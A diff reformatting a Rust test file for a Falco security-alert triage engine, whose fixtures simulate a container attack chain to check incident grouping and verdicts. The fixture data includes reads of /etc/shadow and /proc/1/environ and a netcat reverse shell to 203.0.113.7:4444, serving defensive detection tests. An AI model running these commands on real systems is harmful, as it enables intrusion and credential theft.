@@ -36,18 +36,26 @@ fn container_fields(extra: serde_json::Value) -> serde_json::Value {
 
 fn attack_chain() -> Vec<Alert> {
     vec![
-        alert(json!({"time": "2026-03-02T10:00:00Z", "rule": "Run shell untrusted", "priority": "Notice", "source": "syscall", "hostname": "node-3",
+        alert(
+            json!({"time": "2026-03-02T10:00:00Z", "rule": "Run shell untrusted", "priority": "Notice", "source": "syscall", "hostname": "node-3",
             "tags": ["mitre_execution", "T1059.004"],
-            "output_fields": container_fields(json!({"proc.name": "bash", "proc.cmdline": "bash -c id", "proc.pname": "nginx", "proc.exepath": "/bin/bash", "evt.type": "execve"}))})),
-        alert(json!({"time": "2026-03-02T10:01:10Z", "rule": "Read environment variable from /proc files", "priority": "Warning", "source": "syscall", "hostname": "node-3",
+            "output_fields": container_fields(json!({"proc.name": "bash", "proc.cmdline": "bash -c id", "proc.pname": "nginx", "proc.exepath": "/bin/bash", "evt.type": "execve"}))}),
+        ),
+        alert(
+            json!({"time": "2026-03-02T10:01:10Z", "rule": "Read environment variable from /proc files", "priority": "Warning", "source": "syscall", "hostname": "node-3",
             "tags": ["mitre_discovery", "T1083"],
-            "output_fields": container_fields(json!({"proc.name": "cat", "proc.cmdline": "cat /proc/1/environ", "proc.pname": "bash", "fd.name": "/proc/1/environ", "evt.type": "openat"}))})),
-        alert(json!({"time": "2026-03-02T10:02:30Z", "rule": "Read sensitive file untrusted", "priority": "Warning", "source": "syscall", "hostname": "node-3",
+            "output_fields": container_fields(json!({"proc.name": "cat", "proc.cmdline": "cat /proc/1/environ", "proc.pname": "bash", "fd.name": "/proc/1/environ", "evt.type": "openat"}))}),
+        ),
+        alert(
+            json!({"time": "2026-03-02T10:02:30Z", "rule": "Read sensitive file untrusted", "priority": "Warning", "source": "syscall", "hostname": "node-3",
             "tags": ["mitre_credential_access", "T1555"],
-            "output_fields": container_fields(json!({"proc.name": "cat", "proc.cmdline": "cat /etc/shadow", "proc.pname": "bash", "fd.name": "/etc/shadow", "evt.type": "openat"}))})),
-        alert(json!({"time": "2026-03-02T10:03:05Z", "rule": "Netcat Remote Code Execution in Container", "priority": "Warning", "source": "syscall", "hostname": "node-3",
+            "output_fields": container_fields(json!({"proc.name": "cat", "proc.cmdline": "cat /etc/shadow", "proc.pname": "bash", "fd.name": "/etc/shadow", "evt.type": "openat"}))}),
+        ),
+        alert(
+            json!({"time": "2026-03-02T10:03:05Z", "rule": "Netcat Remote Code Execution in Container", "priority": "Warning", "source": "syscall", "hostname": "node-3",
             "tags": ["mitre_execution", "T1059"],
-            "output_fields": container_fields(json!({"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 203.0.113.7 4444", "proc.pname": "bash", "evt.type": "execve"}))})),
+            "output_fields": container_fields(json!({"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 203.0.113.7 4444", "proc.pname": "bash", "evt.type": "execve"}))}),
+        ),
     ]
 }
 
@@ -58,23 +66,54 @@ fn attack_chain_in_one_container_is_one_malicious_incident() {
         engine.process(a);
     }
     let done = engine.finish(0);
-    assert_eq!(done.incidents.len(), 1, "one incident: {:#?}", done.incidents);
+    assert_eq!(
+        done.incidents.len(),
+        1,
+        "one incident: {:#?}",
+        done.incidents
+    );
     let inc = &done.incidents[0];
     assert_eq!(inc.entity, "container:5c2d9a7e13f0");
     assert_eq!(inc.alert_count, 4);
     assert_eq!(inc.timeline.len(), 4);
-    assert_eq!(inc.verdict.kind, VerdictKind::Malicious, "{:#?}", inc.verdict);
+    assert_eq!(
+        inc.verdict.kind,
+        VerdictKind::Malicious,
+        "{:#?}",
+        inc.verdict
+    );
     assert_eq!(inc.tactics.first().map(String::as_str), Some("Execution"));
-    assert!(inc.tactics.iter().any(|t| t == "Credential Access"), "{:?}", inc.tactics);
+    assert!(
+        inc.tactics.iter().any(|t| t == "Credential Access"),
+        "{:?}",
+        inc.tactics
+    );
     // The later alerts know their container is escalating.
-    let last = done.reports.iter().map(|e| &e.report).find(|r| r.event.rule == "Netcat Remote Code Execution in Container").unwrap();
+    let last = done
+        .reports
+        .iter()
+        .map(|e| &e.report)
+        .find(|r| r.event.rule == "Netcat Remote Code Execution in Container")
+        .unwrap();
     let v = last.verdict.as_ref().unwrap();
-    assert!(v.reasons.iter().any(|r| r.field.as_deref() == Some("incident")), "{:#?}", v.reasons);
+    assert!(
+        v.reasons
+            .iter()
+            .any(|r| r.field.as_deref() == Some("incident")),
+        "{:#?}",
+        v.reasons
+    );
 }
 
 #[test]
 fn alerts_outside_the_window_are_separate_incidents() {
-    let mut engine = Engine::new(analyzer(), EngineConfig { window: chrono::Duration::seconds(30), ..Default::default() });
+    let mut engine = Engine::new(
+        analyzer(),
+        EngineConfig {
+            window: chrono::Duration::seconds(30),
+            ..Default::default()
+        },
+    );
     for a in attack_chain() {
         engine.process(a);
     }
@@ -83,11 +122,13 @@ fn alerts_outside_the_window_are_separate_incidents() {
 }
 
 fn calico(i: u32) -> Alert {
-    alert(json!({"time": format!("2026-03-02T11:{:02}:{:02}Z", (i / 60) % 60, i % 60), "rule": "Run shell untrusted", "priority": "Notice",
+    alert(
+        json!({"time": format!("2026-03-02T11:{:02}:{:02}Z", (i / 60) % 60, i % 60), "rule": "Run shell untrusted", "priority": "Notice",
         "source": "syscall", "hostname": "node-1", "tags": ["mitre_execution", "T1059.004"],
         "output_fields": {"proc.name": "sh", "proc.cmdline": "sh -c ip link del calico_tmp_A || true", "proc.pname": "calico",
             "proc.exepath": "/bin/sh", "proc.pexepath": "/opt/cni/bin/calico", "user.name": "root", "user.uid": 0,
-            "container.id": "host", "proc.pid": 4000 + i}}))
+            "container.id": "host", "proc.pid": 4000 + i}}),
+    )
 }
 
 #[test]
@@ -95,7 +136,10 @@ fn calico_cleanup_storm_is_one_benign_cluster_with_a_tuning_exception() {
     let a = analyzer();
     let mut engine = Engine::new(a.clone(), EngineConfig::default());
     for i in 0..1000 {
-        assert!(engine.process(calico(i)).is_empty(), "no report before the cluster closes");
+        assert!(
+            engine.process(calico(i)).is_empty(),
+            "no report before the cluster closes"
+        );
     }
     let done = engine.finish(0);
     assert_eq!(done.reports.len(), 1);
@@ -104,7 +148,13 @@ fn calico_cleanup_storm_is_one_benign_cluster_with_a_tuning_exception() {
     assert_eq!(r.cluster.as_ref().map(|c| c.count), Some(1000));
     let v = r.verdict.as_ref().unwrap();
     assert_eq!(v.kind, VerdictKind::Benign, "{:#?}", v);
-    assert!(v.reasons.iter().any(|r| r.text.to_lowercase().contains("calico")), "{:#?}", v.reasons);
+    assert!(
+        v.reasons
+            .iter()
+            .any(|r| r.text.to_lowercase().contains("calico")),
+        "{:#?}",
+        v.reasons
+    );
     let (yaml, n) = tune::rules_file(&a, &done.clusters, 10);
     assert_eq!(n, 1, "{yaml}");
     assert!(yaml.contains("- rule: \"Run shell untrusted\""), "{yaml}");
@@ -123,7 +173,10 @@ fn tune_never_proposes_exceptions_for_suspicious_or_malicious_clusters() {
         }
     }
     let done = engine.finish(0);
-    assert!(done.clusters.iter().all(|c| c.verdict != VerdictKind::Benign));
+    assert!(done
+        .clusters
+        .iter()
+        .all(|c| c.verdict != VerdictKind::Benign));
     let (yaml, n) = tune::rules_file(&a, &done.clusters, 1);
     assert_eq!(n, 0, "{yaml}");
     assert!(!yaml.contains("- rule:"));
@@ -132,7 +185,10 @@ fn tune_never_proposes_exceptions_for_suspicious_or_malicious_clusters() {
 #[test]
 fn event_generator_alerts_are_benign_test_events() {
     let a = analyzer();
-    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/data/alerts/elastic-falco-pipeline-test.jsonl");
+    let path = concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/../../../shared/data/alerts/elastic-falco-pipeline-test.jsonl"
+    );
     let text = std::fs::read_to_string(path).expect("shared alerts");
     let mut n = 0;
     for line in text.lines().filter(|l| !l.trim().is_empty()) {
@@ -140,7 +196,11 @@ fn event_generator_alerts_are_benign_test_events() {
         let r = a.report(&al);
         let v = r.verdict.unwrap();
         assert_eq!(v.kind, VerdictKind::Benign, "{}: {:#?}", al.rule, v);
-        assert!(v.reasons.iter().any(|r| r.text.contains("event-generator")), "{:#?}", v.reasons);
+        assert!(
+            v.reasons.iter().any(|r| r.text.contains("event-generator")),
+            "{:#?}",
+            v.reasons
+        );
         n += 1;
     }
     assert!(n >= 10);
@@ -148,19 +208,36 @@ fn event_generator_alerts_are_benign_test_events() {
 
 #[test]
 fn unknown_custom_rule_stays_suspicious_with_an_honest_reason() {
-    let al = alert(json!({"time": "2026-03-02T12:00:00Z", "rule": "Acme: payroll export touched", "priority": "Warning",
-        "source": "syscall", "tags": ["acme"], "output_fields": {"proc.name": "python3", "fd.name": "/srv/payroll/export.csv"}}));
+    let al = alert(
+        json!({"time": "2026-03-02T12:00:00Z", "rule": "Acme: payroll export touched", "priority": "Warning",
+        "source": "syscall", "tags": ["acme"], "output_fields": {"proc.name": "python3", "fd.name": "/srv/payroll/export.csv"}}),
+    );
     let r = analyzer().report(&al);
     let v = r.verdict.unwrap();
     assert_eq!(v.kind, VerdictKind::Suspicious);
-    assert!(v.reasons.iter().any(|r| r.text.contains("not in the knowledge base")), "{:#?}", v.reasons);
+    assert!(
+        v.reasons
+            .iter()
+            .any(|r| r.text.contains("not in the knowledge base")),
+        "{:#?}",
+        v.reasons
+    );
     assert!(!r.knowledge.as_ref().unwrap().curated);
-    assert!(r.mitigations.is_empty(), "no invented mitigations for an unknown rule");
+    assert!(
+        r.mitigations.is_empty(),
+        "no invented mitigations for an unknown rule"
+    );
 }
 
 #[test]
 fn a_storm_of_identical_alerts_is_one_cluster_and_memory_stays_bounded() {
-    let mut engine = Engine::new(analyzer(), EngineConfig { max_clusters: 100, ..Default::default() });
+    let mut engine = Engine::new(
+        analyzer(),
+        EngineConfig {
+            max_clusters: 100,
+            ..Default::default()
+        },
+    );
     for i in 0..100_000u32 {
         engine.process(calico(i % 3600));
     }
